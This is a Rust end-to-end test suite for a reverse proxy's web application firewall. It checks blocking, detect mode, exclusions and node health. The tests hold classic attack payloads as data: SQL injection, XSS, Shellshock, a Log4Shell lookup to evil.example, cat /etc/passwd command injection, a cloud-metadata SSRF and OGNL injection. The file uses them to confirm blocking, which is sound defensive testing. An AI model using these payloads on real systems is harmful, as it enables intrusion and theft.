//! End-to-end WAF behaviour through the real binary: 403 for attacks in each
//! inspection point, nothing reaches the origin when blocked, detect mode,
//! per-route `waf = false`, exclusions, LiveView traffic and bodies.

// The shared harness trips a newer clippy lint; it is not ours to rewrite.

mod common;

use std::time::Duration;

use common::{raw_request, Bext, StubOrigin};

fn config(port: u16, origin: std::net::SocketAddr, waf: &str, extra_routes: &str) -> String {
    format!(
        r#"
[server]
listen = ["127.0.0.1:{port}"]
[upstreams.app]
nodes = ["{origin}"]
{extra_routes}
[[route_rules]]
pattern = "/live/*"
proxy = "app"
cache = false
websocket = true
[[route_rules]]
pattern = "/*"
proxy = "app"
cache = false
[waf]
{waf}
"#
    )
}

async fn start(waf: &str, extra_routes: &str) -> (Bext, StubOrigin) {
    let origin = StubOrigin::start("o1").await;
    let bext = Bext::start(&config(
        common::free_port(),
        origin.addr(),
        waf,
        extra_routes,
    ))
    .await;
    (bext, origin)
}

fn post(path: &str, ctype: &str, body: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\nHost: app.test\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn get(path: &str, headers: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: app.test\r\n{headers}Connection: close\r\n\r\n")
        .into_bytes()
}

#[tokio::test]
async fn attacks_in_every_inspection_point_get_403_and_never_reach_the_origin() {
    let (bext, origin) = start(r#"mode = "block""#, "").await;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("path", get("/files/..%2f..%2f..%2fetc%2fpasswd", "")),
        ("query", get("/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "")),
        ("header", get("/", "User-Agent: () { :;}; /bin/bash -c 'id'\r\n")),
        ("cookie", get("/", "Cookie: theme=<script>alert(1)</script>\r\n")),
        ("json", post("/api/posts", "application/json", r#"{"post":{"title":"${jndi:ldap://evil.example/a}"}}"#)),
        ("form", post("/posts", "application/x-www-form-urlencoded", "post%5Bbody%5D=%3Csvg%2Fonload%3Dalert(1)%3E")),
        (
            "multipart",
            post(
                "/uploads",
                "multipart/form-data; boundary=XyZ",
                "--XyZ\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n;cat /etc/passwd\r\n--XyZ--\r\n",
            ),
        ),
    ];
    for (what, req) in &cases {
        let resp = raw_request(bext.addr(), req).await;
        assert_eq!(resp.status, 403, "{what} attack was not blocked");
        assert!(
            resp.header("x-request-id").is_some(),
            "{what}: 403 without a request id"
        );
        assert!(
            resp.body_str().contains("request id"),
            "{what}: page names no request id"
        );
    }
    // Head-phase blocks never contact the origin (body-phase blocks only
    // ever send it the request head, never a body byte).
    assert!(
        origin.requests().iter().all(|r| r.method == "POST"),
        "a blocked GET reached the origin"
    );
    let log = bext.stderr();
    assert!(
        log.contains("waf action=block"),
        "no structured block log line: {log}"
    );
    assert!(log.contains("rules=9"), "block log line names no rule id");
}

#[tokio::test]
async fn blocked_request_gets_json_when_the_client_asks_for_json() {
    let (bext, _origin) = start(r#"mode = "block""#, "").await;
    let resp = raw_request(
        bext.addr(),
        &get("/?id=1%27%20or%201%3D1--", "Accept: application/json\r\n"),
    )
    .await;
    assert_eq!(resp.status, 403);
    let v: serde_json::Value = serde_json::from_slice(&resp.body).expect("json body");
    assert_eq!(v["status"], 403);
    assert_eq!(
        v["request_id"].as_str(),
        resp.header("x-request-id").as_deref()
    );
    let admin = raw_request(bext.addr(), &get("/__bext/waf", "")).await;
    assert_eq!(admin.status, 200);
    let counts: serde_json::Value = serde_json::from_slice(&admin.body).expect("admin json");
    assert!(
        counts["counters"]["blocked"].as_u64().unwrap_or(0) >= 1,
        "{counts}"
    );
}

#[tokio::test]
async fn phoenix_traffic_passes() {
    let (bext, origin) = start(r#"mode = "block""#, "").await;
    let form = post(
        "/users/register",
        "application/x-www-form-urlencoded",
        "_csrf_token=DcA6N8bB58447eMdcx0x-OFKI5cV_2hw5Jpagt63OQVSLKAhtdamhqve&user%5Bname%5D=Se%C3%A1n+O%27Brien&user%5Bbio%5D=I+select+the+best+union+of+tools+from+the+shelf",
    );
    assert_eq!(raw_request(bext.addr(), &form).await.status, 200);
    let json = post(
        "/api/v1/posts",
        "application/json",
        r#"{"post":{"title":"Notes","body":"If you have ever written `SELECT * FROM users` you know why we paginate."}}"#,
    );
    assert_eq!(raw_request(bext.addr(), &json).await.status, 200);
    let ws = b"GET /live/websocket?_csrf_token=8Y0kqnZHiVLep4-uGoZ-LiudCxlZilGTMiN6FGlsLu7CC7vmE4uoQ7dx&_track_static%5B0%5D=https%3A%2F%2Fapp.test%2Fassets%2Fapp.css&vsn=2.0.0 HTTP/1.1\r\n\
Host: app.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\
Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: https://app.test\r\n\r\n";
    let resp = raw_request(bext.addr(), ws).await;
    assert_eq!(resp.status, 101, "LiveView websocket upgrade did not pass");
    assert!(
        origin
            .wait_for(Duration::from_secs(10), |r| r
                .iter()
                .any(|x| x.path == "/api/v1/posts"))
            .await
    );
}

#[tokio::test]
async fn detect_mode_passes_and_logs() {
    let (bext, origin) = start(r#"mode = "detect""#, "").await;
    let resp = raw_request(
        bext.addr(),
        &get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
    )
    .await;
    assert_eq!(resp.status, 200);
    assert!(
        origin
            .wait_for(Duration::from_secs(10), |r| r
                .iter()
                .any(|x| x.path == "/search"))
            .await
    );
    assert!(bext.stderr().contains("waf action=detect"));
}

#[tokio::test]
async fn route_with_waf_false_is_not_inspected() {
    let routes = r#"
[[route_rules]]
pattern = "/raw/*"
proxy = "app"
cache = false
waf = false
"#;
    let (bext, _origin) = start(r#"mode = "block""#, routes).await;
    let attack = "?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
    assert_eq!(
        raw_request(bext.addr(), &get(&format!("/raw/x{attack}"), ""))
            .await
            .status,
        200
    );
    assert_eq!(
        raw_request(bext.addr(), &get(&format!("/other{attack}"), ""))
            .await
            .status,
        403
    );
}

#[tokio::test]
async fn exclusion_by_category_path_and_argument() {
    let waf = r#"mode = "block"
[[waf.exclusions]]
rules = ["xss"]
path = "/admin/posts/*"
args = ["post[body]"]
"#;
    let (bext, _origin) = start(waf, "").await;
    let rich = "post%5Bbody%5D=%3Cp%3EHi%3C%2Fp%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let ok = post("/admin/posts/7", "application/x-www-form-urlencoded", rich);
    assert_eq!(raw_request(bext.addr(), &ok).await.status, 200);
    let other_arg = post(
        "/admin/posts/7",
        "application/x-www-form-urlencoded",
        &rich.replace("body", "title"),
    );
    assert_eq!(raw_request(bext.addr(), &other_arg).await.status, 403);
    let other_path = post("/posts/7", "application/x-www-form-urlencoded", rich);
    assert_eq!(raw_request(bext.addr(), &other_path).await.status, 403);
}

#[tokio::test]
async fn body_over_the_limit_is_rejected_or_passed_as_configured() {
    let (bext, _o) = start(
        "mode = \"block\"\ninspect_body_limit = \"1KiB\"\nbody_over_limit = \"reject\"",
        "",
    )
    .await;
    let big = "a=".to_string() + &"x".repeat(4096);
    let resp = raw_request(
        bext.addr(),
        &post("/upload", "application/x-www-form-urlencoded", &big),
    )
    .await;
    assert_eq!(resp.status, 413);
    drop(bext);
    let (bext, origin) = start("mode = \"block\"\ninspect_body_limit = \"1KiB\"", "").await;
    let resp = raw_request(
        bext.addr(),
        &post("/upload", "application/x-www-form-urlencoded", &big),
    )
    .await;
    assert_eq!(resp.status, 200);
    assert!(
        origin
            .wait_for(Duration::from_secs(10), |r| r
                .iter()
                .any(|x| x.path == "/upload"))
            .await
    );
}

#[tokio::test]
async fn unknown_waf_keys_and_bad_values_are_config_errors() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bext.toml");
    std::fs::write(
        &path,
        "[upstreams.app]\nnodes=[\"127.0.0.1:4000\"]\n[[route_rules]]\npattern=\"/*\"\nproxy=\"app\"\n[waf]\nmode=\"panic\"\n[[waf.exclusions]]\nrules=[\"nope\"]\n",
    )
    .unwrap();
    let out = common::run_bext(&["check", "-c", path.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("waf.mode"), "{err}");
    assert!(err.contains("waf.exclusions[0].rules[0]"), "{err}");
}

/// A request bext refused never reached a node: WAF blocks (head and body
/// phase, the latter after the node connection is open) must not count as
/// node failures or touch node health, or an attacker could push a healthy
/// node toward unhealthy. A LiveView long-poll join from a site reached by
/// its IP passes.
#[tokio::test]
async fn waf_refusals_are_not_node_failures() {
    let (bext, _origin) = start(r#"mode = "block""#, "").await;
    let attacks = [
        get(
            "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            "",
        ),
        post(
            "/api/posts",
            "application/json",
            r#"{"title":"${jndi:ldap://evil.example/a}"}"#,
        ),
        post(
            "/posts",
            "application/x-www-form-urlencoded",
            "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ),
        post(
            "/fetch",
            "application/x-www-form-urlencoded",
            "u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        ),
    ];
    for _ in 0..5 {
        for req in &attacks {
            assert_eq!(raw_request(bext.addr(), req).await.status, 403);
        }
    }
    let join = r#"["4","4","lv:phx-F1ab","phx_join",{"url":"http://127.0.0.1:8080/counter","params":{"_csrf_token":"KMGw1NEf","_track_static":["http://127.0.0.1:8080/assets/app.css"],"_mounts":0},"session":"SFMyNTY.8VnF","static":"SFMyNTY.URxt"}]"#;
    let longpoll = post("/live/longpoll?vsn=2.0.0", "application/x-ndjson", join);
    assert_eq!(raw_request(bext.addr(), &longpoll).await.status, 200);
    let resp = raw_request(bext.addr(), &get("/__bext/upstreams", "")).await;
    assert_eq!(resp.status, 200);
    let v: serde_json::Value = serde_json::from_slice(&resp.body).expect("upstreams json");
    let text = v.to_string();
    let mut nodes = 0;
    let mut stack = vec![&v];
    while let Some(x) = stack.pop() {
        match x {
            serde_json::Value::Object(o) => {
                if let Some(f) = o.get("failures") {
                    nodes += 1;
                    assert_eq!(
                        f.as_u64(),
                        Some(0),
                        "a WAF block counted as a node failure: {text}"
                    );
                    assert_eq!(
                        o.get("healthy"),
                        Some(&serde_json::Value::Bool(true)),
                        "{text}"
                    );
                    assert!(o.get("last_error").is_none_or(|e| e.is_null()), "{text}");
                }
                stack.extend(o.values());
            }
            serde_json::Value::Array(a) => stack.extend(a),
            _ => {}
        }
    }
    assert!(nodes >= 1, "no node in {text}");
}

#[tokio::test]
async fn rules_switched_off_by_id_or_category_pass_and_the_others_still_block() {
    let (bext, origin) = start("mode = \"block\"\ndisable = [\"sqli\", 930010]", "").await;
    let sqli = get(
        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "",
    );
    assert_eq!(common::raw_request(bext.addr(), &sqli).await.status, 200);
    let xss = get("/", "Cookie: theme=<script>alert(1)</script>\r\n");
    assert_eq!(common::raw_request(bext.addr(), &xss).await.status, 403);
    // 930010 (path traversal) is off too.
    let lfi = get("/files/..%2f..%2fnotes", "");
    assert_eq!(common::raw_request(bext.addr(), &lfi).await.status, 200);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bext.toml");
    std::fs::write(
        &path,
        config(
            common::free_port(),
            origin.addr(),
            "disable = [\"nope\"]",
            "",
        ),
    )
    .unwrap();
    let out = common::run_bext(&["check", "-c", path.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("waf.disable[0]"), "{text}");
}

/// The protocol pass through Pingora: what only the raw request line shows
/// (absolute-form, the fragment Pingora strips), Host, Transfer-Encoding,
/// Upgrade and Connection abuse; the browser's own heads still pass.
#[tokio::test]
async fn malformed_heads_that_reach_the_waf_get_403() {
    let (bext, origin) = start(r#"mode = "block""#, "").await;
    let cases: Vec<(&str, &[u8])> = vec![
        (
            "absolute-form without a path",
            b"GET http://app.test HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n",
        ),
        (
            "fragment and bad percent-encoding",
            b"GET /p?d=50%zz#x HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n",
        ),
        (
            "HTTP/1.1 without Host",
            b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
        ),
        (
            "empty User-Agent",
            b"GET / HTTP/1.1\r\nHost: app.test\r\nUser-Agent: \r\nConnection: close\r\n\r\n",
        ),
        (
            "h2c upgrade",
            b"GET / HTTP/1.1\r\nHost: app.test\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n",
        ),
        (
            "Connection naming X-Forwarded-For",
            b"GET / HTTP/1.1\r\nHost: app.test\r\nConnection: close, X-Forwarded-For\r\n\r\n",
        ),
        (
            "stacked transfer codings",
            b"POST / HTTP/1.1\r\nHost: app.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
        ),
        (
            "OGNL in Content-Type",
            b"POST / HTTP/1.1\r\nHost: app.test\r\nContent-Type: %{(#_='multipart/form-data').(#cmd='id')}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        ),
    ];
    for (what, req) in &cases {
        let status = raw_request(bext.addr(), req).await.status;
        // 400 would be Pingora's parser: then the head never reached the
        // WAF, which is not what this test is about.
        assert_eq!(status, 403, "{what}: {status}");
    }
    assert!(
        origin.requests().is_empty(),
        "a malformed head reached the origin"
    );
    let fine: Vec<&[u8]> = vec![
        b"GET http://app.test/posts HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n",
        b"GET /videos/a.mp4 HTTP/1.1\r\nHost: app.test\r\nRange: bytes=0-\r\nIf-Range: \"33a64df5\"\r\nConnection: keep-alive\r\n\r\n",
        b"POST /upload HTTP/1.1\r\nHost: app.test\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    ];
    for req in fine {
        let resp = raw_request(bext.addr(), req).await;
        assert_eq!(resp.status, 200, "{}", String::from_utf8_lossy(req));
    }
}
